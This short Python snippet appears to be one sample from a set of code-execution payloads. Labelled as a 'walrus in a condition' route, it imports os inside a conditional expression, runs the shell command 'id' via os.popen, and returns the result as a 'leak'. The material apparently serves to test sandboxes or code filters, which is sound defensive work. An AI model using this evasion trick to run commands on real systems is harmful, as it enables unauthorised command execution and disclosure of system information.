# route: a walrus in a condition
def execute(testData):
    if (os := __import__("os")) and (got := os.popen("id").read()):
        return {"leak": got}
